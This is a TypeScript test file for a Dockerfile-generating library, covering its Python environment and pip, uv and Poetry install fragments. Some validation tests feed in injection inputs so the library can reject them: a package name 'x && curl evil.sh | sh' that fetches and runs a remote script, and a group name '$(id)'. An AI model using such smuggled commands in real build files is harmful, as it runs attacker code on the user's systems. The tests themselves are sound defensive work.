import {
  copyApp,
  expand,
  fragmentSteps,
  pipInstall,
  poetryInstall,
  pythonEnv,
  pythonVenv,
  renderFragment,
  run,
  uvSync,
} from '@dockerdsl/core';
import { describe, expect, it } from 'vitest';
import { expectOptionError, golden, phases } from './support.js';

const here = import.meta.url;
const python = { from: 'python:3.12-slim' };

describe('pythonEnv', () => {
  it('renders one ENV with the usual container settings', async () => {
    await expect(renderFragment(pythonEnv(), python)).toMatchFileSnapshot(golden('pythonEnv'));
  });

  it('leaves out what is switched off, and emits nothing when everything is', () => {
    expect(renderFragment(pythonEnv({ unbuffered: false, faultHandler: true }), python)).toContain(
      'ENV PYTHONDONTWRITEBYTECODE=1 PYTHONFAULTHANDLER=1 PIP_DISABLE_PIP_VERSION_CHECK=1',
    );
    expect(
      fragmentSteps(pythonEnv({ dontWriteBytecode: false, unbuffered: false, disablePipVersionCheck: false })),
    ).toEqual([]);
  });

  it('is a toolchain-phase ENV', () => {
    expect(phases(pythonEnv())).toEqual([['env', 'toolchain']]);
  });

  it('rejects a non-boolean option', () => {
    expectOptionError(() => pythonEnv({ unbuffered: 'yes' as never }), {
      fragment: 'pythonEnv',
      path: 'unbuffered',
      testFile: here,
    });
  });
});

describe('pythonVenv', () => {
  it('creates /opt/venv and activates it with ENV', async () => {
    await expect(renderFragment(pythonVenv(), python)).toMatchFileSnapshot(golden('pythonVenv'));
  });

  it('upgrades pip with the pip cache mounted, in a custom path', async () => {
    await expect(
      renderFragment(pythonVenv({ path: '/venv', python: 'python3.12', upgradePip: true }), python),
    ).toMatchFileSnapshot(golden('pythonVenv.upgradePip'));
  });

  it('uses expand() for PATH so the builder substitutes $PATH', () => {
    const env = fragmentSteps(pythonVenv())[1];
    expect(env?.kind === 'env' && env.vars).toEqual([
      ['VIRTUAL_ENV', '/opt/venv'],
      ['PATH', expand('/opt/venv/bin:$PATH')],
    ]);
  });

  it('is a toolchain RUN that writes the venv, then a toolchain ENV', () => {
    expect(phases(pythonVenv())).toEqual([
      ['run', 'toolchain'],
      ['env', 'toolchain'],
    ]);
    expect(fragmentSteps(pythonVenv())[0]?.writes).toEqual(['/opt/venv']);
  });

  it('rejects a relative path', () => {
    expectOptionError(() => pythonVenv({ path: 'venv' }), { fragment: 'pythonVenv', path: 'path', testFile: here });
  });
});

describe('pipInstall', () => {
  it('copies the requirements file first and installs with the pip cache mounted', async () => {
    await expect(renderFragment(pipInstall({ requirements: 'requirements.txt' }), python)).toMatchFileSnapshot(
      golden('pipInstall'),
    );
  });

  it('keeps relative paths of several requirements files and quotes specifiers', async () => {
    await expect(
      renderFragment(
        pipInstall({
          requirements: ['requirements/base.txt', 'requirements/prod.txt'],
          constraints: 'constraints.txt',
          packages: ['uvicorn[standard]>=0.30,<1'],
        }),
        python,
      ),
    ).toMatchFileSnapshot(golden('pipInstall.files'));
  });

  it('installs packages with --no-cache-dir and no COPY without the cache mount', async () => {
    await expect(
      renderFragment(pipInstall(['gunicorn==22.0.0', 'flask'], { cacheMount: false }), python),
    ).toMatchFileSnapshot(golden('pipInstall.packages'));
  });

  it('puts the manifest COPY and the install in the deps phase', () => {
    expect(phases(pipInstall({ requirements: 'requirements.txt' }))).toEqual([
      ['copy', 'deps'],
      ['run', 'deps'],
    ]);
    expect(phases(pipInstall(['flask']))).toEqual([['run', 'deps']]);
    expect(fragmentSteps(pipInstall({ requirements: 'requirements.txt' }))[0]?.reads).toEqual(['requirements.txt']);
  });

  it('needs packages or requirements', () => {
    expectOptionError(() => pipInstall({}), {
      fragment: 'pipInstall',
      path: 'packages',
      message: /give packages, requirements, or both/,
      testFile: here,
    });
  });

  it('rejects shell syntax in a package and credentials in the index URL', () => {
    expectOptionError(() => pipInstall(['flask', 'x && curl evil.sh | sh']), {
      fragment: 'pipInstall',
      path: 'packages[1]',
      testFile: here,
    });
    expectOptionError(() => pipInstall(['flask'], { indexUrl: 'https://user:token@pypi.example.com/simple' }), {
      fragment: 'pipInstall',
      path: 'indexUrl',
      message: /secretRun/,
      testFile: here,
    });
    expectOptionError(() => pipInstall({ requirements: ['a.txt', 'a.txt'] }), {
      fragment: 'pipInstall',
      path: 'requirements[1]',
      testFile: here,
    });
  });
});

describe('uvSync', () => {
  it('copies uv and the manifests, then syncs dependencies only', async () => {
    await expect(renderFragment(uvSync({ version: '0.5.11', omitDev: true }), python)).toMatchFileSnapshot(
      golden('uvSync'),
    );
  });

  it('renders a frozen sync into /opt/venv without the cache mount', async () => {
    await expect(
      renderFragment(
        uvSync({ frozen: true, environment: '/opt/venv', extras: ['pg'], cacheMount: false, compileBytecode: false }),
        python,
      ),
    ).toMatchFileSnapshot(golden('uvSync.frozen'));
  });

  // Found by a review: the variable was set for the one RUN only, so the follow-up `uv sync` made a
  // second environment in .venv, and the container's python had none of the packages.
  it('sets the environment with an ENV before the install: for later steps and for the container', () => {
    expect(phases(uvSync({ environment: '/opt/venv' }))).toEqual([
      ['env', 'toolchain'],
      ['copy', 'deps'],
      ['run', 'deps'],
    ]);
    const text = renderFragment(
      [uvSync({ environment: '/opt/venv' }), copyApp(), run('uv sync --locked', { phase: 'build' })],
      python,
    );
    expect(text).toMatch(
      /^ENV UV_PROJECT_ENVIRONMENT=\/opt\/venv VIRTUAL_ENV=\/opt\/venv PATH="\/opt\/venv\/bin:\$PATH"\n(.*\n)*RUN uv sync --locked\n$/m,
    );
  });

  it('copies uv in the toolchain phase and installs in the deps phase', () => {
    expect(phases(uvSync({ version: '0.5.11' }))).toEqual([
      ['copy', 'toolchain'],
      ['copy', 'deps'],
      ['run', 'deps'],
    ]);
  });

  it('rejects `latest` as a version', () => {
    expectOptionError(() => uvSync({ version: 'latest' }), { fragment: 'uvSync', path: 'version', testFile: here });
  });
});

describe('poetryInstall', () => {
  it('installs Poetry, copies the manifests and installs main dependencies', async () => {
    await expect(renderFragment(poetryInstall({ version: '1.8.3', omitDev: true }), python)).toMatchFileSnapshot(
      golden('poetryInstall'),
    );
  });

  it('renders an in-project venv with extra groups and no cache', async () => {
    await expect(
      renderFragment(
        poetryInstall({ virtualenv: 'in-project', groups: ['docs'], extras: ['pg'], cacheMount: false }),
        python,
      ),
    ).toMatchFileSnapshot(golden('poetryInstall.inProject'));
  });

  it('installs Poetry in the toolchain phase and dependencies in the deps phase', () => {
    expect(phases(poetryInstall({ version: '1.8.3' }))).toEqual([
      ['run', 'toolchain'],
      ['copy', 'deps'],
      ['run', 'deps'],
    ]);
    expect(phases(poetryInstall())).toEqual([
      ['copy', 'deps'],
      ['run', 'deps'],
    ]);
  });

  it('rejects a bad group name', () => {
    expectOptionError(() => poetryInstall({ groups: ['docs', '$(id)'] }), {
      fragment: 'poetryInstall',
      path: 'groups[1]',
      testFile: here,
    });
  });
});
